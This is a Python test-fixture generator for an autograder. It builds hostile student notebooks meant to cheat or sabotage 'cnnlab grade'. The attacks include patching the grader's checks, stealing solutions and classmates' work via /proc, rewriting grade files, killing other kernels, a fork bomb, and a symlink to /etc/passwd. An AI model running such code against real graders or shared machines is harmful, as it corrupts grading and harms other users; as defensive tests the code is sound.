"""The attack submissions of ``tests/hostile/``: what a student who wants points without work,
or wants to hurt a classmate or the grader, would try against ``cnnlab grade``.

Each attack is a short notebook for lesson 00 or 04: the solution cells (often left as the
stubs), a setup cell, and the attack in cells of the student's own. The grader restores the
graded cells itself. ``metadata.cnnlab_test`` holds what the attack tries, the score it must get
(per exercise), and ``sandbox_only``: true where only the sandbox stops it (the README lists
those). ``python tests/hostile/make_attacks.py`` writes the notebooks; a test checks they are
up to date. Attacks find the grader's paths the way a real one would: in ``/proc``.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
LESSONS = {"00": "00_start_here", "04": "04_convolution"}
SETUP = "import numpy as np\nimport cnnlab as cl"
SCALE = "def scale_images(x):\n    return (x / 255).astype(np.float32)"
MEAN = "def mean_image(X):\n    return X.mean(axis=0)"
MEAN_SUM = "def mean_image(X):\n    return X.sum(axis=0)"  # the classic wrong answer
STUB = {name: f"def {name}(*args):\n    raise NotImplementedError()" for name in ("scale_images", "mean_image")}
CONV = ("def conv2d_forward_naive(x, w, b, stride=1, pad=0):\n"
        "    N, C, H, W = x.shape\n    F, _, kh, kw = w.shape\n"
        "    xp = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))\n"
        "    Ho, Wo = (H + 2 * pad - kh) // stride + 1, (W + 2 * pad - kw) // stride + 1\n"
        "    out = np.zeros((N, F, Ho, Wo), dtype=x.dtype)\n"
        "    for n in range(N):\n        for f in range(F):\n            for i in range(Ho):\n"
        "                for j in range(Wo):\n"
        "                    window = xp[n, :, i * stride:i * stride + kh, j * stride:j * stride + kw]\n"
        "                    out[n, f, i, j] = (window * w[f]).sum() + b[f]\n"
        "    return out, (x, w, b, stride, pad)")
# The grader's command line, as an attacker reads it from /proc (only visible without a sandbox).
GRADER_ARGS = '''
def grader_process():
    import os
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        argv = [a.decode() for a in argv if a]
        if "grade" in argv and "--out" in argv:
            return int(pid), argv
    return 0, []

def grader_args():
    return grader_process()[1]

def option(name):
    argv = grader_args()
    return argv[argv.index(name) + 1] if name in argv else None
'''.strip()


def attack(name, what, lesson="00", expected=None, sandbox_only=False, solutions=None, before=(), after=(),
           end=()):
    """One attack notebook: ``before`` cells run first, ``after`` after the first exercise's
    graded cell, ``end`` after the last. ``expected``: the scores it must get (with the sandbox;
    0 for every exercise not named)."""
    return dict(name=name, what=what, lesson=lesson, expected=expected, sandbox_only=sandbox_only,
                solutions=solutions or {}, before=list(before), after=list(after), end=list(end))


ATTACKS = [
    attack("custom_exc", "a custom exception handler that swallows every error, so no graded cell shows one",
           before=["get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"]),
    attack("input_transformer", "an input transformer that turns every graded cell into `pass`",
           before=["def no_checks(lines):\n    return ['pass\\n'] if any('cl.check' in l for l in lines) else lines\n"
                   "get_ipython().input_transformers_post.append(no_checks)"]),
    attack("ast_transformer", "an AST transformer that removes every statement of the graded cells",
           before=["import ast\nclass Empty(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
                   "        if 'check' in ast.dump(node):\n            node.body = []\n        return node\n"
                   "get_ipython().ast_transformers.append(Empty())"]),
    attack("patched_comparisons", "builtins.abs and NumPy's comparisons patched to agree with anything, so that "
                                  "the notebook's check passes a wrong mean_image (scale_images is right)",
           expected={"scale_images": 1, "mean_image": 0}, solutions={"scale_images": SCALE, "mean_image": MEAN_SUM},
           before=["import builtins, numpy\nbuiltins.abs = lambda x: 0\n"
                   "numpy.isclose = lambda a, b, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)\n"
                   "numpy.allclose = numpy.array_equal = lambda *a, **k: True"]),
    attack("rebound_check", "cl.check replaced by a function that returns the points",
           before=["cl.check = lambda *a, **k: 1\ncheck = cl.check"]),
    attack("patched_grading_code", "cnnlab.grading's comparison patched to find no difference",
           before=["import cnnlab.grading.core as core\ncore.difference = lambda *a, **k: None\n"
                   "import cnnlab.grading.compare as compare\ncompare.difference = core.difference"]),
    attack("settrace", "a trace function that rewrites the check's verdicts while it runs",
           before=["import sys\ndef tracer(frame, event, arg):\n    if event == 'return' and "
                   "frame.f_code.co_name == 'judge_case':\n        arg.problems.clear()\n    return tracer\n"
                   "sys.settrace(tracer)"]),
    attack("course_files", "files written into the course folder and the installed cnnlab, for later submissions "
                           "and later runs to import", sandbox_only=True,
           before=[GRADER_ARGS + "\nimport os, pathlib, cnnlab\nroot = option('--root')\n"
                   "targets = [pathlib.Path(cnnlab.__file__).parent / 'grading' / 'zz_cheat.py']\n"
                   "if root:\n    targets += [pathlib.Path(root) / 'sitecustomize.py', pathlib.Path(root) / 'hacked.txt']\n"
                   "for target in targets:\n    try:\n        target.write_text('# cnnlab hostile test: written by course_files\\n')\n"
                   "    except OSError as err:\n        print(target, err)"]),
    attack("detached_rewriter", "a detached process that waits for the grader to exit, then rewrites grades.csv and "
                                "the JSON results", sandbox_only=True,
           before=[GRADER_ARGS + "\nimport subprocess, sys\nout = option('--out') or '/nowhere'\n"
                   "code = (f'import glob, os, time\\nend = time.time() + 300\\n'\n"
                   "        f'while time.time() < end and os.path.exists(\"/proc/{grader_process()[0]}\"):\\n'\n"
                   "        f'    time.sleep(0.2)\\ntime.sleep(2)\\n'\n"
                   "        f'for p in glob.glob(os.path.join({out!r}, \"*\")):\\n'\n"
                   "        f'    open(p, \"a\").write(\"\\\\nrewritten by detached_rewriter\\\\n\")\\n')\n"
                   "subprocess.Popen([sys.executable, '-c', code], start_new_session=True, stdin=subprocess.DEVNULL,\n"
                   "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"]),
    attack("read_solutions", "the lesson's solution notebook and hidden cases read from the course folder, their "
                             "solutions run", sandbox_only=True, before=[
               GRADER_ARGS + "\nimport json, pathlib\nroot = pathlib.Path(option('--root') or '/nowhere')\n"
               "try:\n    nb = json.loads((root / 'solutions' / '00_start_here.ipynb').read_text())\n"
               "    for cell in nb['cells']:\n"
               "        if cell['metadata'].get('nbgrader', {}).get('solution'):\n"
               "            exec(''.join(cell['source']))\n"
               "    stolen = {'scale_images': scale_images, 'mean_image': mean_image}\n"
               "except OSError as err:\n    stolen = {}\n    print(err)"],
           solutions={"scale_images": "try:\n    scale_images = stolen['scale_images']\nexcept KeyError:\n"
                                      "    def scale_images(x):\n        raise NotImplementedError()",
                      "mean_image": "try:\n    mean_image = stolen['mean_image']\nexcept KeyError:\n"
                                    "    def mean_image(X):\n        raise NotImplementedError()"}),
    attack("steal_classmate", "a classmate's submitted notebook found on disk and its answers run", sandbox_only=True,
           before=[
               GRADER_ARGS + "\nimport json\nstolen = {}\nfor path in [a for a in grader_args() if a.endswith('.ipynb')]:\n"
               "    try:\n        cells = json.loads(open(path).read())['cells']\n    except (OSError, ValueError):\n"
               "        continue\n    for cell in cells:\n"
               "        if cell['metadata'].get('nbgrader', {}).get('solution') and 'Not' not in ''.join(cell['source']):\n"
               "            scope = {'np': np}\n            try:\n                exec(''.join(cell['source']), scope)\n"
               "            except Exception:\n                continue\n"
               "            stolen.update({k: v for k, v in scope.items() if k in ('scale_images', 'mean_image')})"],
           solutions={"scale_images": "scale_images = stolen.get('scale_images')",
                      "mean_image": "mean_image = stolen.get('mean_image')"}),
    attack("kill_neighbours", "every other kernel on the machine killed, again and again, while classmates are graded",
           sandbox_only=True, before=[
               "import os, signal, threading, time\ndef killer():\n    end = time.time() + 8\n    while time.time() < end:\n"
               "        for pid in os.listdir('/proc'):\n            if not pid.isdigit() or int(pid) == os.getpid():\n"
               "                continue\n            try:\n                cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
               "            except OSError:\n                continue\n"
               "            if b'ipykernel' in cmd:\n                try:\n                    os.kill(int(pid), signal.SIGKILL)\n"
               "                except OSError:\n                    pass\n        time.sleep(0.2)\n"
               "threading.Thread(target=killer, daemon=True).start()\ntime.sleep(6)"]),
    attack("library_implementation", "conv2d_forward_naive returns cnnlab's own convolution", lesson="04",
           solutions={"conv2d_forward_naive": "def conv2d_forward_naive(x, w, b, stride=1, pad=0):\n"
                                              "    return cl.F.conv2d_forward(x, w, b, stride, pad)[0], (x, w, b, stride, pad)"}),
    attack("check_reference", "conv2d_forward_naive taken from the check's own reference", lesson="04",
           solutions={"conv2d_forward_naive": "conv2d_forward_naive = cl.grading.get('conv2d_forward_naive').reference"}),
    attack("aliased_import", "pad2d and conv_output_size from cnnlab under other names, through an alias", lesson="04",
           before=[SETUP + "\nimport cnnlab.conv as helpers\nfrom cnnlab.conv import pad2d as zero_pad"],
           solutions={"pad2d": "def pad2d(x, pad):\n    return zero_pad(x, pad)",
                      "conv_output_size": "def conv_output_size(n, k, stride=1, pad=0):\n"
                                          "    return helpers.conv_output_size(n, k, stride, pad)"}),
    attack("hard_coded_shapes", "answers right only for the shapes of the public cases (scale_images) and a "
                                "memorised answer of the worked example (mean_image)",
           solutions={"scale_images": "PUBLIC = {(2, 1, 8, 8), (1, 1, 2, 2), (3, 3, 5, 4), (1, 1, 8, 8), (4, 1, 3, 3)}\n"
                                      "def scale_images(x):\n    if tuple(x.shape) in PUBLIC:\n"
                                      "        return (x / 255).astype(np.float32)\n    return np.zeros(x.shape, np.float32)",
                      "mean_image": "def mean_image(X):\n    if X.shape == (2, 1, 2, 2):\n"
                                    "        return np.array([[[2.0, 3.0], [4.0, 5.0]]])\n    return X[0]"}),
    attack("knows_the_checker", "right only when called by the notebook's cl.check, wrong for anyone else",
           solutions={"scale_images": "import inspect\ndef scale_images(x):\n"
                                      "    if any(f.function == 'check' for f in inspect.stack()):\n"
                                      "        return (x / 255).astype(np.float32)\n    return x.astype(np.float32)"}),
    attack("forged_reply", "the grader's kernel-side code replaced (through sys.modules, out of the scan's sight) by "
                           "one that writes a well-formed reply of zeros for every case",
           before=["import io, json, sys, numpy\n"
                   "def serve(request, reply):\n"
                   "    cases = 20\n"
                   "    one = {'d': [['result', {'a': 0}], ['after', {'d': []}]]}\n"
                   "    tree = json.dumps({'d': [['replies', {'l': [one] * cases}]]}).encode()\n"
                   "    buffer = io.BytesIO()\n"
                   "    numpy.savez(buffer, tree=numpy.frombuffer(tree, numpy.uint8), a0=numpy.zeros((1, 8, 8)))\n"
                   "    open(reply, 'wb').write(buffer.getvalue())\n"
                   "import importlib\nremote = importlib.import_module('cnnlab.' + 'grading.remote')\n"
                   "remote.serve = serve"]),
    attack("hostile_reply_files", "os.replace patched so that the kernel's replies become a link to /etc/passwd, a "
                                  "pipe and a zip bomb (three exercises solved)", lesson="04",
           solutions={"conv_output_size": "def conv_output_size(n, k, stride=1, pad=0):\n"
                                          "    if k > n + 2 * pad:\n        raise ValueError('kernel too big')\n"
                                          "    return (n + 2 * pad - k) // stride + 1",
                      "covers_input": "def covers_input(n, k, stride, pad):\n    return (n + 2 * pad - k) % stride == 0",
                      "pad2d": "def pad2d(x, pad):\n    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))"},
           before=["import os, zipfile\nreal_replace, count = os.replace, [0]\n"
                   "def replace(src, dst, *args, **kwargs):\n    if 'reply' not in str(dst):\n"
                   "        return real_replace(src, dst, *args, **kwargs)\n    os.unlink(src)\n    count[0] += 1\n"
                   "    if count[0] % 3 == 1:\n        os.symlink('/etc/passwd', dst)\n"
                   "    elif count[0] % 3 == 2:\n        os.mkfifo(dst)\n    else:\n"
                   "        with zipfile.ZipFile(dst, 'w', zipfile.ZIP_DEFLATED) as z:\n"
                   "            z.writestr('tree.npy', b'0' * 50_000_000)\n"
                   "os.replace = replace"]),
    attack("fork_bomb", "a fork bomb in a cell of its own (it notes in the course folder, where it can, how many "
                        "processes it got)", sandbox_only=True, before=[
        GRADER_ARGS + "\nimport os, time\nchildren = 0\ntry:\n    for _ in range(400):\n        if os.fork() == 0:\n"
        "            time.sleep(10)\n            os._exit(0)\n        children += 1\nexcept OSError as err:\n"
        "    print(children, err)\nroot = option('--root')\nif root:\n"
        "    open(os.path.join(root, 'fork_count.txt'), 'w').write(str(children))"]),
    attack("memory_hog", "a cell that asks for 64 GB (the exercises are right)", expected={"scale_images": 1, "mean_image": 1},
           solutions={"scale_images": SCALE, "mean_image": MEAN},
           before=["try:\n    hog = bytearray(64 * 2**30)\nexcept MemoryError as err:\n    print('refused', err)"]),
    attack("endless_cells", "cells that each run just under the time limit, forever", before=[
        "import time\ntime.sleep(9.5)"] * 12),
    attack("output_flood", "a cell printing 50 MB", before=["import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 2**20)"]),
    attack("keeps_exiting", "every cell ends the kernel", before=["import os\nos._exit(3)"],
           after=["import os\nos._exit(4)"], end=["import os\nos._exit(5)"]),
    attack("startup_file", "an IPython startup file that rebinds cl.check in every later kernel, then a crash to "
                           "start one", before=[
               "import os, pathlib\nstartup = pathlib.Path(get_ipython().profile_dir.startup_dir)\n"
               "startup.mkdir(parents=True, exist_ok=True)\n"
               "(startup / '00-cheat.py').write_text('import cnnlab as cl\\ncl.check = lambda *a, **k: 1\\n')"],
           after=["import os\nos._exit(1)"]),
    attack("shadowed_numpy", "a numpy.py in the working folder, first on the import path",
           before=["open('numpy.py', 'w').write('raise ImportError(\"no numpy for the grader\")\\n')\n"
                   "import sys\nsys.path.insert(0, '.')\nfor name in [n for n in sys.modules if n.startswith('numpy')]:\n"
                   "    del sys.modules[name]"]),
    attack("lying_array", "a result whose class claims to equal anything", solutions={
        "mean_image": "class Agreeable(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
                      "    def __array_ufunc__(self, *a, **k):\n        return True\n"
                      "def mean_image(X):\n    return np.zeros(X.shape[1:]).view(Agreeable)"}),
    attack("network", "the submission's code tries to reach the network (and a grader port on localhost)",
           before=["import socket\nfor host, port in [('8.8.8.8', 53), ('127.0.0.1', 22)]:\n    try:\n"
                   "        socket.create_connection((host, port), timeout=2).close()\n        print('reached', host)\n"
                   "    except OSError as err:\n        print(host, err)"]),
]

CLASSMATES = {  # honest submissions graded beside the attacks: their scores must be as when graded alone
    "classmate_right": ("00", {"scale_images": SCALE, "mean_image": MEAN}),
    "classmate_partial": ("00", {"scale_images": SCALE, "mean_image": MEAN_SUM}),
    "classmate_untouched": ("00", {}),
    "classmate_conv": ("04", {"conv2d_forward_naive": CONV}),
}


def _cell(kind: str, source: str, grade_id: str | None = None) -> dict:
    cell_id = ("h" + hashlib.sha256(f"{grade_id}{source}".encode()).hexdigest()[:10])
    cell = {"cell_type": kind, "id": cell_id, "metadata": {}, "source": source}
    if grade_id:
        cell["metadata"]["nbgrader"] = {"grade": False, "grade_id": grade_id, "locked": False, "schema_version": 3,
                                        "solution": True}
    if kind == "code":
        cell.update(execution_count=None, outputs=[])
    return cell


def _exercises(lesson: str) -> list[str]:
    nb = json.loads((HERE.parents[1] / "notebooks" / f"{LESSONS[lesson]}.ipynb").read_text())
    return [c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"]
            if c["metadata"].get("nbgrader", {}).get("grade")]


def notebook(lesson: str, solutions: dict, before=(), after=(), end=(), test: dict | None = None) -> dict:
    """A submission of ``lesson`` with these solution sources (stubs elsewhere) and attack cells."""
    exercises = _exercises(lesson)
    cells = [_cell("code", SETUP)] + [_cell("code", s) for s in before]
    for i, name in enumerate(exercises):
        source = solutions.get(name, STUB.get(name, f"def {name}(*args):\n    raise NotImplementedError()"))
        cells.append(_cell("code", source, f"{name}_solution"))
        cells += [_cell("code", s) for s in (after if i == 0 else end if i == len(exercises) - 1 else ())]
    metadata = {"cnnlab": {"lesson": LESSONS[lesson]},
                "kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}}
    if test:
        metadata["cnnlab_test"] = test
    return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def build() -> dict[str, str]:
    """file name -> notebook text of every attack and classmate."""
    files = {}
    for a in ATTACKS:
        exercises = _exercises(a["lesson"])
        expected = {name: (a["expected"] or {}).get(name, 0) for name in exercises}
        test = {"attack": a["what"], "expected": expected, "sandbox_only": a["sandbox_only"]}
        nb = notebook(a["lesson"], a["solutions"], a["before"], a["after"], a["end"], test)
        files[f"{a['name']}.ipynb"] = json.dumps(nb, indent=1, sort_keys=True) + "\n"
    for name, (lesson, solutions) in CLASSMATES.items():
        nb = notebook(lesson, solutions, test={"classmate": True})
        files[f"{name}.ipynb"] = json.dumps(nb, indent=1, sort_keys=True) + "\n"
    return files


if __name__ == "__main__":
    for stale in HERE.glob("*.ipynb"):
        stale.unlink()
    for name, text in build().items():
        (HERE / name).write_text(text)
    print(f"wrote {len(ATTACKS)} attacks and {len(CLASSMATES)} classmates to {HERE}")
